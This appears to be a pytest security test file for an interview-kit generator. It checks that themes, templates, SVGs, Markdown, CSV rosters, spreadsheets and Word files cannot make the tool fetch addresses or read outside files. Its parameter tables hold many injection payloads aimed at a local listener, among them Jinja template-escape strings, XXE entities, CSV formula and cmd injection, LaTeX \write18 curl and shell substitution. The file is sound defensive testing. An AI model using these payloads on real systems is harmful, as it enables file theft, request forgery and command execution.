"""Nothing that a file names is fetched, and no file outside the bank, theme and roster is read.

Each route is one way for a file of somebody else to name an address or another file. A listener
waits at the address; Python reports each file that it opens and each connection; and what the
canary says is in no file and no message. Natively compiled libraries open files unseen by Python:
then the canary's words would show.
"""

import base64
import io
import re
import shutil
import socket
import sys
import threading
import zipfile
from dataclasses import dataclass, field
from pathlib import Path

import pikepdf
import pytest
from docx import Document
from openpyxl import Workbook

from kitgen.resources import shipped
from tests.faults import good
from tests.reading import docx_parts, need_pango

pytestmark = pytest.mark.promise("offline")

CANARY = "yellow-bird-in-the-mine"
NETWORK = ("socket.connect", "socket.getaddrinfo", "socket.gethostbyname", "socket.sendto")
ALL_FORMATS = ("--format", "pdf", "--format", "docx", "--format", "html")
PROGRAMS = ("subprocess.Popen", "os.system", "os.exec", "os.posix_spawn")


@dataclass
class Seen:
    """What was opened and asked for while a route was tried."""

    files: list[str] = field(default_factory=list)
    calls: list[str] = field(default_factory=list)
    connections: list[object] = field(default_factory=list)


WATCHED: list[Seen] = []


def is_request(event, arguments):
    """Tell of a request that it is no file of this machine, which is seen when it is opened."""
    return event == "urllib.Request" and not str(arguments[0]).startswith(("file:", "data:"))


def _hook(event, arguments):
    if not WATCHED:
        return
    if event == "open":
        WATCHED[-1].files.append(str(arguments[0]))
    elif event in NETWORK or is_request(event, arguments):
        WATCHED[-1].calls.append(f"{event} {arguments}")


@pytest.fixture(scope="module")
def listener():
    """An address of this machine, and who connected to it."""
    sys.addaudithook(_hook)
    with socket.socket() as waiting:
        waiting.bind(("127.0.0.1", 0))
        waiting.listen()
        connections = []

        def accept():
            while True:
                try:
                    connections.append(waiting.accept()[1])
                except OSError:
                    return

        threading.Thread(target=accept, daemon=True).start()
        yield f"http://127.0.0.1:{waiting.getsockname()[1]}", connections


@dataclass
class Place:
    """A folder with what a route needs; `address` is the listener's, `canary` a file outside."""

    folder: Path
    address: str
    canary: Path

    def fill(self, text):
        """Put in the address and the paths of the canary, from the root and from a folder below."""
        names = {"A": self.address, "F": self.canary.as_uri(), "P": str(self.canary)}
        names |= {"R": f"../../{self.canary.name}", "H": self.address.removeprefix("http:")}
        return re.sub(r"%([AFPRH])%", lambda found: names[found[1]], text)

    def write(self, name, content):
        path = self.folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content if isinstance(content, bytes) else self.fill(content).encode())
        return path


@pytest.fixture
def place(tmp_path, listener, monkeypatch):
    canary = tmp_path / "canary.svg"
    drawing = f"<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'><desc>{CANARY}</desc>"
    canary.write_text(f"{drawing}<text>{CANARY}</text></svg>")
    folder = tmp_path / "here"
    folder.mkdir()
    monkeypatch.chdir(folder)
    return Place(folder, listener[0], canary)


@pytest.fixture
def watch(run, listener, place):
    """Run commands; tell what came of them, and refuse whatever reached out."""
    _, connections = listener

    def call(*arguments):
        connections.clear()
        seen = Seen()
        WATCHED.append(seen)
        try:
            result = run(*arguments)
        finally:
            WATCHED.pop()
        assert connections == []
        assert seen.calls == []
        opened = [path for path in seen.files if Path(path).resolve() == place.canary]
        assert opened == []
        assert CANARY not in result.output
        out = place.folder / "out"
        files = [path for path in out.rglob("*") if path.is_file()] if out.is_dir() else []
        for path in files:
            assert_quiet(path)
        return result, files

    return call


def assert_quiet(path):
    """A finished file shows nothing of the canary, and loads nothing when it is opened."""
    content = path.read_bytes()
    if path.suffix == ".pdf":
        assert_quiet_pdf(path)
    elif path.suffix == ".docx":
        for name, part in docx_parts(content):
            assert CANARY.encode() not in part
            for target in re.findall(rb"<Relationship [^>]*TargetMode=\"External\"[^>]*>", part):
                assert b"/hyperlink" in target, (name, target)
    else:
        assert CANARY not in content.decode()
    if path.suffix == ".html":
        text = content.decode()
        loads = re.findall(
            r"(?:src|srcset|data|poster|background)=[\"']?(?!data:)([^\s\"'>]+)", text
        )
        assert [load for load in loads if "://" in load or load.startswith("/")] == []
        assert "<script" not in text
        assert "default-src 'none'" in text
        styles = "".join(re.findall(r"<style>(.*?)</style>", text, re.DOTALL))
        assert "127.0.0.1" not in styles
        assert "@import" not in styles


def assert_quiet_pdf(path):
    with pikepdf.open(path) as pdf:
        for item in pdf.objects:
            if isinstance(item, pikepdf.Stream):
                assert CANARY.encode() not in item.read_bytes()
            if isinstance(item, pikepdf.Dictionary | pikepdf.Stream):
                action = str(item.get("/S", ""))
                assert action not in {
                    "/Launch",
                    "/GoToR",
                    "/JavaScript",
                    "/SubmitForm",
                    "/Rendition",
                }
                assert "/EF" not in item
                assert item.get("/F") is None or not isinstance(item.get("/F"), pikepdf.String)


def svg(inside, before=""):
    size = "xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'"
    return f"{before}<svg {size} width='20' height='20'>{inside}<rect width='9' height='9'/></svg>"


def embedded(drawing):
    return f"url(data:image/svg+xml;base64,{base64.b64encode(drawing.encode()).decode()})"


# In the styles of a theme.
CSS = {
    "import": "@import url(%A%/a.css);",
    "import of a text": "@import '%A%/a.css';",
    "import of a file": "@import '%F%';",
    "picture": "p { background: url(%A%/a.png) }",
    "picture in quotes": "p { background: url('%A%/a.png') }",
    "picture without a scheme": "p { background: url(%H%/a.png) }",
    "file": "p { background: url(%F%) }",
    "path": "p { background: url(%P%) }",
    "path from here": "p { background: url(%R%) }",
    "escapes": "p { background: \\75rl(%A%/a.png) }",
    "capitals": "p { background: URL(%A%/a.png) }",
    "src": "p { background: src('%A%/a.png') }",
    "image-set": "p { background: image-set('%A%/a.png' 1x) }",
    "old image-set": "p { background: -webkit-image-set(url(%A%/a.png) 1x) }",
    "content": "p::before { content: url(%A%/a.png) }",
    "marker of a list": "li { list-style-image: url(%A%/a.png) }",
    "cursor": "p { cursor: url(%A%/a.cur), auto }",
    "filter": "p { filter: url(%A%/a.svg#b) }",
    "page": "@page { background: url(%A%/a.png) }",
    "margin of a page": "@page { @top-left { content: url(%A%/a.png) } }",
    "property": ":root { --it: url(%A%/a.png) } p { background: var(--it) }",
    "media": "@media print { p { background: url(%A%/a.png) } }",
    "supports": "@supports (color: red) { p { background: url(%A%/a.png) } }",
    "font": "@font-face { font-family: X; src: url(%A%/a.ttf) }",
    "font of a file": "@font-face { font-family: X; src: url(%F%) }",
    "font of the machine": "@font-face { font-family: X; src: local('DejaVu Sans') }",
    "colour profile": "@color-profile device-cmyk { src: url(%A%/a.icc) }",
    "end of the styles": "p::before { content: '</style><img src=%A%/a.png>' }",
    "end in a comment": "/* </style><script src=%A%/a.js></script> */",
    "data of CSS": "@import url(data:text/css,@import%20'%A%/a.css');",
    "drawing with a picture": "p { background: " + embedded(svg("<image href='A'/>")) + " }",
}


@pytest.mark.parametrize("format_", ["pdf", "html"])
@pytest.mark.parametrize("route", CSS)
def test_styles_of_a_theme_reach_nothing(watch, place, route, format_):
    need_pango()
    for name in ("style.css", "browser.css"):
        own = (shipped("templates") / name).read_text(encoding="utf-8")
        place.write(f"theme/{name}", f"{CSS[route]}\n{own}\n{CSS[route]}")
    place.write("kit.yaml", good("kit"))
    result, files = watch(*RENDER, "--format", format_)
    assert (result.exit_code, files) == (1, []), result.output
    assert "theme/style.css:1:" in result.stderr


RENDER = ("render", "kit.yaml", "--theme", "theme", "--edition", "scorecard", "--output", "out")

# In a template of a theme.
TEMPLATES = {
    "include of a path": "{% include '%P%' %}",
    "include from here": "{% include '%R%' %}",
    "import": "{% import '%P%' as it %}{{ it }}",
    "include of a link": "{% include 'rules.html' %}",
    "picture": "<img src='%A%/a.png' alt='x'>",
    "picture of a file": "<img src='%F%' alt='x'>",
    "styles": "<link rel='stylesheet' href='%A%/a.css'>",
    "attachment": "<link rel='attachment' href='%F%'>",
    "script": "<script src='%A%/a.js'></script>",
    "frame": "<iframe src='%A%'></iframe>",
    "object": "<object data='%A%/a.svg'></object>",
    "embed": "<embed src='%A%/a.svg'>",
    "video": "<video poster='%A%/a.png'></video>",
    "refresh": "<meta http-equiv='refresh' content='0;url=%A%'>",
    "base": "<base href='%A%/'>",
    "own styles": "<style>@import '%A%/a.css';</style>",
    "style of an element": "<p style='background:url(%A%/a.png)'>x</p>",
    "background": "<table background='%A%/a.png'><tr><td>x</td></tr></table>",
    "drawing": "<svg><image href='%A%/a.png'/></svg>",
    "equation": "<math href='%A%'><mi>x</mi></math>",
    "event": "<p onclick='fetch(\"%A%\")'>x</p>",
    "link to a file": "<a href='%F%'>x</a>",
    "link that runs": "<a href='javascript:fetch(\"%A%\")'>x</a>",
    "Python": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "attribute by name": "{{ ''|attr('__class__') }}",
    "attribute by a format": "{{ '{0.__class__.__init__.__globals__}'.format(view) }}",
    "globals of a function": "{{ counted.__globals__ }}",
    "globals of a macro": "{{ macros.fact.__globals__ }}",
    "the environment": "{{ self._TemplateReference__context.environment.loader }}",
    "function of Jinja": "{{ cycler.__init__.__globals__.os }}",
}


@pytest.mark.parametrize("route", TEMPLATES)
def test_templates_reach_nothing(watch, place, route):
    own = (shipped("templates") / "scorecard.html").read_text(encoding="utf-8")
    place.write("theme/scorecard.html", own.replace("</section>", f"{TEMPLATES[route]}</section>"))
    (place.folder / "theme" / ".rules").symlink_to(place.canary)
    if route == "include of a link":
        (place.folder / "theme" / "rules.html").symlink_to(place.canary)
    place.write("kit.yaml", good("kit"))
    for format_ in ("html", "docx"):
        result, files = watch(*RENDER, "--format", format_)
        assert (result.exit_code, files) == (1, []), result.output


@pytest.mark.parametrize("name", ["style.css", "theme.yaml", "words.yaml", "scorecard.html"])
def test_no_file_of_a_theme_leads_out_of_it(watch, place, name):
    (place.folder / "theme").mkdir()
    (place.folder / "theme" / name).symlink_to(place.canary)
    place.write("kit.yaml", good("kit"))
    result, files = watch(*RENDER, "--format", "html")
    assert (result.exit_code, files) == (1, [])
    assert f"theme/{name}: is a link that leads out of the theme" in result.stderr


@pytest.mark.parametrize("key", ["text", "code", "word_text", "word_code"])
@pytest.mark.parametrize("format_", ["html", "docx"])
def test_the_name_of_a_font_is_a_name(watch, place, key, format_):
    name = "X'}@import '%A%/a.css';p{background:url(%A%/a.png)"
    place.write("theme/theme.yaml", f'fonts: {{html: system, {key}: "{name}"}}\n')
    place.write("kit.yaml", good("kit"))
    result, files = watch(*RENDER, "--format", format_)
    assert (result.exit_code, files) == (1, [])
    assert "theme/theme.yaml:1:" in result.stderr


# In a drawing of a bank.
DRAWINGS = {
    "picture": svg("<image href='%A%/a.png' width='9' height='9'/>"),
    "picture of a file": svg("<image xlink:href='%F%' width='9' height='9'/>"),
    "other drawing": svg("<use href='%A%/a.svg#b'/>"),
    "other drawing of a file": svg("<use xlink:href='%F%#b'/>"),
    "filling": svg("<rect fill='url(%A%/a.svg#b)' width='9' height='9'/>"),
    "styles": svg("<style>@import '%A%/a.css';</style>"),
    "styles with a picture": svg("<style>rect { fill: url(%A%/a.svg#b) }</style>"),
    "font": svg("<style>@font-face { font-family: X; src: url(%A%/a.ttf) }</style>"),
    "style of a part": svg("<rect style='mask: url(%F%#b)' width='9' height='9'/>"),
    "HTML": svg(
        "<foreignObject><img xmlns='http://www.w3.org/1999/xhtml' src='%A%'/></foreignObject>"
    ),
    "script": svg("<script href='%A%/a.js'/>"),
    "link": svg("<a href='%A%'><rect width='9' height='9'/></a>"),
    "event": svg("<rect onload='fetch(\"%A%\")' width='9' height='9'/>"),
    "base": svg("<g xml:base='%A%/'><use href='a.svg#b'/></g>"),
    "entity": svg("<text>&it;</text>", "<!DOCTYPE svg [<!ENTITY it SYSTEM '%F%'>]>"),
    "definition of types": svg("<text>x</text>", "<!DOCTYPE svg SYSTEM '%A%/a.dtd'>"),
    "styles beside": svg("", "<?xml-stylesheet href='%A%/a.css'?>"),
    "inclusion": svg("<include xmlns='http://www.w3.org/2001/XInclude' href='%F%'/>"),
}


@pytest.mark.parametrize("route", DRAWINGS)
def test_drawings_of_a_bank_reach_nothing(watch, place, route):
    need_pango()
    figure = bank(place, answer="'![a drawing](figures/it.svg)'")
    place.write("bank/figures/it.svg", DRAWINGS[route])
    result, files = watch(*figure, *ALL_FORMATS)
    assert (result.exit_code, files) == (1, []), result.output
    assert "figures/it.svg" in result.stderr


def bank(place, **values):
    """Write a bank whose question has these values; return the command that prints it."""
    text = good("question")
    for key, value in values.items():
        (line,) = re.findall(rf"^  {key}: .*$", text, re.MULTILINE)
        text = text.replace(line, f"  {key}: {value}")
    place.write("bank/ml-theory.yaml", text)
    place.write("bank/vocabulary.yaml", good("vocabulary"))
    chosen = ("--seniority", "mid", "--category", "ml-theory=1", "--minutes", "30")
    return ("generate", "--bank", "bank", *chosen, "--force", "--output", "out")


# In a text of a bank: what is printed at most is the address itself.
MARKDOWN = {
    "picture": "![x](%A%/a.png)",
    "picture of a file": "![x](%F%)",
    "picture at a path": "![x](%P%)",
    "picture from here": "![x](%R%)",
    "picture with a name": "![x][a]\\n\\n[a]: %A%/a.png",
    "link": "[x](%A%)",
    "link to a file": "[x](%F%)",
    "link that runs": "[x](javascript:alert)",
    "data": "![x](data:image/svg+xml,<svg/>)",
    "HTML": "<img src='%A%/a.png'>",
    "styles": "<style>@import '%A%/a.css';</style>",
    "address": "<%A%>",
    "LaTeX file": "$\\\\input{%P%}$",
    "LaTeX picture": "$\\\\includegraphics{%A%/a.png}$",
    "LaTeX link": "$\\\\href{%A%}{x}$",
    "LaTeX program": "$\\\\write18{curl %A%}$",
    "include of reStructuredText": ".. include:: %P%",
    "include of a shell": "`$(cat %P%)`",
    "Jinja": "{% include '%P%' %}",
}


@pytest.mark.parametrize("route", MARKDOWN)
def test_texts_of_a_bank_reach_nothing(watch, place, route):
    need_pango()
    command = bank(place, answer=f'"{MARKDOWN[route]}"')
    watch(*command, "--edition", "interviewer", *ALL_FORMATS)


@pytest.mark.parametrize("name", ["ml-theory.yaml", "vocabulary.yaml", "more", "samples/a.yaml"])
def test_no_file_and_no_folder_of_a_bank_leads_out_of_it(watch, place, name):
    bank(place)
    path = place.folder / "bank" / name
    path.unlink(missing_ok=True)
    path.parent.mkdir(exist_ok=True)
    path.symlink_to(place.canary.parent if name == "more" else place.canary)
    result, _ = watch("check", "bank")
    assert result.exit_code == 1
    assert "is a link that leads out of" in result.output


@pytest.mark.parametrize("key", ["solution", "checks"])
@pytest.mark.parametrize("path", ["%P%", "%R%", "%F%", "link.py", "%A%/a.py"])
def test_code_of_a_question_is_in_its_bank(watch, place, key, path):
    bank(place, status=f"reviewed\n  {key}: {path}")
    (place.folder / "bank" / "link.py").symlink_to(place.canary)
    result, _ = watch("questions", "show", "first-question", "--bank", "bank")
    assert result.exit_code == 1
    assert "in the bank's folder" in result.stderr


@pytest.mark.parametrize("route", DRAWINGS)
def test_drawings_of_a_kit_reach_nothing(watch, place, route):
    kit = good("kit").replace("answer: This happens.", "answer: '![a drawing](figures/it.svg)'")
    drawing = "".join(f"      {line}\n" for line in place.fill(DRAWINGS[route]).splitlines())
    text = f"{kit}figures:\n  - file: figures/it.svg\n    drawing: |\n{drawing}"
    place.write("kit.yaml", text)
    result, files = watch("render", "kit.yaml", "--format", "docx", "--output", "out")
    assert (result.exit_code, files) == (1, [])


@pytest.mark.parametrize("name", ["%P%", "%R%", "../canary", "link", "link.yaml", "%F%"])
def test_the_role_that_a_role_extends_is_in_its_folder(watch, place, name):
    bank(place)
    place.canary = place.canary.rename(place.canary.with_name("canary.yaml"))
    place.canary.write_text(f"title: {CANARY}\n")
    (place.folder / "link.yaml").symlink_to(place.canary)
    place.write("role.yaml", f"extends: {name}\n{ROLE}".replace("title: T\n", ""))
    result, _ = watch("roles", "show", "role.yaml", "--bank", "bank")
    assert result.exit_code == 1
    assert "role.yaml:1:10: " in result.stderr


ROSTERS = {
    "formula": 'candidate,interviewer\nAda,=WEBSERVICE("%A%")\n',
    "link": 'candidate,interviewer\nAda,"=HYPERLINK(""%A%"",""x"")"\n',
    "program": "candidate,interviewer\nAda,=cmd|' /C calc'!A0\n",
    "address": "candidate,interviewer\nAda,%A%\n",
    "file": "candidate,interviewer\nAda,%F%\n",
    "template": "candidate,interviewer\nAda,{% include '%P%' %}\n",
}


@pytest.mark.parametrize("route", ROSTERS)
def test_rosters_reach_nothing(watch, place, route):
    _, *options = bank(place)
    options.remove("--force")
    place.write("roster.csv", ROSTERS[route])
    place.write("role.yaml", ROLE)
    watch("batch", "role.yaml", "roster.csv", *TO, "--format", "html")


ROLE = (
    "title: T\nseniority: mid\nrounds:\n"
    "  - {id: r, title: R, minutes: 30, blueprint: [{category: ml-theory, count: 1}]}\n"
)
TO = ("--bank", "bank", "--output", "out")


def changed(content, name, change):
    """Return a ZIP file with one of its parts changed, or added."""
    old, new = zipfile.ZipFile(io.BytesIO(content)), io.BytesIO()
    with zipfile.ZipFile(new, "w") as made:
        for entry in old.namelist():
            part = old.read(entry)
            made.writestr(entry, change(part) if entry == name else part)
        if name not in old.namelist():
            made.writestr(name, change(b""))
    return new.getvalue()


def workbook(head):
    book, content = Workbook(), io.BytesIO()
    book.active.append([head, "answer"])
    book.active.append(["What is it?", "That."])
    book.save(content)
    return content.getvalue()


def external(place, kind):
    start = "http://schemas.openxmlformats.org"
    return place.fill(
        f'<Relationships xmlns="{start}/package/2006/relationships"><Relationship Id="rX" '
        f'Type="{start}/officeDocument/2006/relationships/{kind}" Target="%A%/a" '
        'TargetMode="External"/><Relationship Id="rY" Type="'
        f'{start}/officeDocument/2006/relationships/{kind}" Target="%F%" TargetMode="External"/>'
    ).encode()


def entity(place, part):
    types = place.fill("<!DOCTYPE x [<!ENTITY it SYSTEM '%F%'><!ENTITY at SYSTEM '%A%/a'>]>")
    head, _, rest = part.partition(b"?>") if part.startswith(b"<?xml") else (b"<?xml", b"", part)
    rest = rest.replace(b"That.", b"That &it; &at;.").replace(b"What is it?", b"What is &it;?")
    return (
        head.ljust(5) + b"?>" + types.encode() + rest
        if part.startswith(b"<?xml")
        else (types.encode() + rest)
    )


SHEET_RELATIONS = "xl/worksheets/_rels/sheet1.xml.rels"
SHEET = "xl/worksheets/sheet1.xml"


def beside(place, kind):
    return lambda part: (
        part.replace(
            part[: part.find(b">", part.find(b"<Relationships")) + 1], external(place, kind)
        )
        if part
        else external(place, kind) + b"</Relationships>"
    )


WORKBOOKS = {
    "entity of a text": ("xl/sharedStrings.xml", entity),
    "entity of a sheet": (SHEET, entity),
    "entity of the book": ("xl/workbook.xml", entity),
    "entity of relations": ("xl/_rels/workbook.xml.rels", entity),
    "picture": (SHEET_RELATIONS, lambda place, part: beside(place, "image")(part)),
    "other workbook": (SHEET_RELATIONS, lambda place, part: beside(place, "externalLink")(part)),
    "query": (SHEET_RELATIONS, lambda place, part: beside(place, "queryTable")(part)),
}


@pytest.mark.parametrize("route", WORKBOOKS)
def test_workbooks_reach_nothing(watch, place, route):
    bank(place)
    name, change = WORKBOOKS[route]
    place.write("kitgen.yaml", "banks: [bank]\n")
    place.write("role.yaml", ROLE)
    for head, command in (
        ("candidate", ("batch", "role.yaml", "it.xlsx", *TO, "--format", "html")),
        ("question", ("questions", "import", "it.xlsx", "--category", "ml-theory")),
    ):
        place.write("it.xlsx", changed(workbook(head), name, lambda part: change(place, part)))
        watch(*command)
        assert CANARY not in (place.folder / "bank" / "ml-theory.yaml").read_text()


def word():
    document, content = Document(), io.BytesIO()
    document.add_heading("What is it?", 2)
    document.add_paragraph("That.")
    document.save(content)
    return content.getvalue()


DOCUMENT_RELATIONS = "word/_rels/document.xml.rels"
DOCUMENTS = {
    "entity of the text": ("word/document.xml", entity),
    "entity of styles": ("word/styles.xml", entity),
    "entity of relations": (DOCUMENT_RELATIONS, entity),
    "entity of types": ("[Content_Types].xml", entity),
    **{
        kind: (DOCUMENT_RELATIONS, lambda place, part, kind=kind: extended(place, part, kind))
        for kind in ("image", "attachedTemplate", "aFChunk", "subDocument", "frame", "oleObject")
    },
    "footnotes": (DOCUMENT_RELATIONS, lambda place, part: extended(place, part, "footnotes")),
}


def extended(place, part, kind):
    own = external(place, kind).partition(b">")[2]
    return part.replace(b"</Relationships>", own + b"</Relationships>")


@pytest.mark.parametrize("route", DOCUMENTS)
def test_word_documents_reach_nothing(watch, place, route):
    bank(place)
    name, change = DOCUMENTS[route]
    place.write("kitgen.yaml", "banks: [bank]\n")
    place.write("it.docx", changed(word(), name, lambda part: change(place, part)))
    watch("questions", "import", "it.docx", "--category", "ml-theory")
    assert CANARY not in (place.folder / "bank" / "ml-theory.yaml").read_text()


IMPORTED = {
    "picture": "![x](%A%/a.png)",
    "picture of a file": "![x](%F%)",
    "picture at a path": "![x](%P%)",
    "picture from here": "![x](../canary.svg)",
    "picture over a link": "![x](link.svg)",
    "picture with its path encoded": "![x](%2e%2e/canary.svg)",
    "HTML": "<img src='../canary.svg'> <img src='%A%/a.png'>",
    "name": "![x][a]\n\n[a]: ../canary.svg",
}


@pytest.mark.parametrize("route", IMPORTED)
def test_imported_texts_reach_nothing(watch, place, route):
    bank(place)
    place.write("kitgen.yaml", "banks: [bank]\n")
    (place.folder / "link.svg").symlink_to(place.canary)
    for name, text in (("it.md", f"## What is it?\n\n{IMPORTED[route]}\n"),):
        place.write(name, text)
        result, _ = watch("questions", "import", name, "--category", "ml-theory")
        assert result.exit_code == 0, result.stderr
    assert not (place.folder / "bank" / "figures").exists()
    shutil.rmtree(place.folder / "bank")
